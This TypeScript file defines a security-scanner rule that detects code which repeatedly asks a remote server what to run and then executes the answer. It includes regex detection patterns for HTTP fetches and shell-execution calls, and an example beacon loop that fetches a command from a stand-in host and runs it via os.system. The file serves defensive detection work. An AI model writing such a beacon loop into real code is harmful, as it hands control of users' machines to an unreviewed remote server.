import { defineTextRule } from "../../text-rule.ts";
import type { Match } from "../../text-rule.ts";
import { family } from "./family.ts";

export const beacon = defineTextRule({
  ...family,
  id: "CODE-REMOTE-COMMANDS",
  summary: "A program asks a server again and again what to run.",
  why: "The server decides later what the machine does, long after anybody has reviewed the skill.",
  fix: "Remove it; a skill does what it says, and nothing that a server says.",
  example: {
    path: "scripts/agent.py",
    caught: "while True:\n    cmd = requests.get('https://x.example.invalid/task').text\n    os.sys{gap}tem(cmd)\n",
    instead: "while True:\n    state = requests.get('https://x.example.invalid/state').json()\n    print(state['count'])\n",
  },
  triggers: [
    {
      anchors: ["websocket(", "create_connection(", "websocketapp("],
      pattern: /WebSocket(?:App)?\(\s{0,3}f?["'`]wss?:\/\/(?!localhost|127\.|\[::1\])[^\n]{3,200}/uy,
      judge: ({ text, start, place }) =>
        place.kind === "script" &&
        /(?:on\(\s{0,3}["']message["']|onmessage|addEventListener\(\s{0,3}["']message|on_message)/u.test(text) &&
        RUN_MESSAGE.test(text.slice(start, start + 2_000))
          ? { what: "What a server sends is run" }
          : null,
    },
    {
      anchors: [
        "requests.get",
        "requests.post",
        "urlopen",
        "fetch(",
        "httpx.get",
        "axios.get",
        "curl",
        "http.get",
        "https.get",
        "invoke-webrequest",
        "iwr ",
        "invoke-restmethod",
        "net::http",
      ],
      pattern:
        /(?:requests\.(?:get|post)|urlopen|fetch\(|httpx\.(?:get|post)|axios\.(?:get|post)|curl\s|https?\.get|invoke-webrequest|iwr\s|invoke-restmethod|net::http)/iuy,
      judge: judgeBeacon,
    },
  ],
});

const RUN_MESSAGE =
  /(?<![\w.])(?:child_process\.)?(?:exec(?:Sync)?|eval|Function|os\.(?:system|popen)|subprocess\.\w{2,14})\(\s{0,3}(?:String\()?[a-z_$][\w$]{0,20}(?:\.\w{1,12}(?:\(\))?)?\s{0,3}[,)]/u;

const RUN_TEXT =
  /(?:os\.(?:system|popen)|subprocess\.(?:run|call|Popen|check_output|getoutput)|exec(?:Sync)?|eval|Invoke-Expression|iex)\s{0,3}\(?\s{0,3}(?:\[?\s{0,3}["'](?:sh|bash|cmd|powershell)["'],\s{0,3}["']-?\/?c["'],\s{0,3})?["']?\$?\{?(?<from>cmd|command|task|payload|instruction|response|resp|result|reply|body|text|code|script|order|job|data|r|res|c)(?:\.(?:text|stdout|body|data|content|command|cmd|output)|\[["']?(?:command|cmd|task|exec|code|payload)["']?\]|\.strip\(\)|\.decode\(\)|\.get\(["'](?:command|cmd|task|code)["']\))?/iu;

/** The field of an answer that says what to run. */
const RUN_FIELD =
  /(?:os\.(?:system|popen)|subprocess\.(?:run|call|Popen|check_output|getoutput)|exec(?:Sync)?|eval|spawn(?:Sync)?|system|Function)\s{0,3}\(\s{0,3}(?:["'](?:sh|bash|cmd|require)["'],\s{0,3}(?:\[?["']-c["'],\s{0,3})?)?\w{1,20}(?:\[["'](?:c|cmd|command|exec|run|shell|code|script|payload)["']\]|\.get\(["'](?:cmd|command|exec|code|script|payload)["']|\.(?:cmd|command|code|script|payload)\b)/u;

function judgeBeacon({ text, start, place }: Match): { readonly what?: string } | null {
  if (place.kind === "prose" && !place.isInFence) return null;
  const after = text.slice(start, start + 1_200);
  if (place.kind === "script" && RUN_FIELD.test(after)) return { what: "What a server answers is run as a command" };
  const run = RUN_TEXT.exec(after);
  if (!run) return null;
  const before = text.slice(Math.max(0, start - 600), start);
  const isLoop = /while\s*(?:True|1|true|:|\(|\[)|for\s*\(\s*;;|setInterval|loop\s*do|forever|until\s+false|schedule\./iu.test(
    before + after,
  );
  const variable = run.groups?.["from"] ?? "";
  const isAssigned = new RegExp(
    String.raw`(?<![\w.])\$?${variable}\s{0,3}(?::[^=\n]{0,20})?=\s{0,3}(?:\$\(|await\s|\()?[^\n]{0,80}\b(?:requests|urlopen|fetch|httpx|axios|curl|response|resp|r|res|reply|https?\.|iwr|invoke-)`,
    "iu",
  ).test(`${text.slice(Math.max(0, start - 80), start)}${after}`);
  if (!isAssigned) return null;
  return isLoop ? {} : { what: "What a server answers is run as a command" };
}
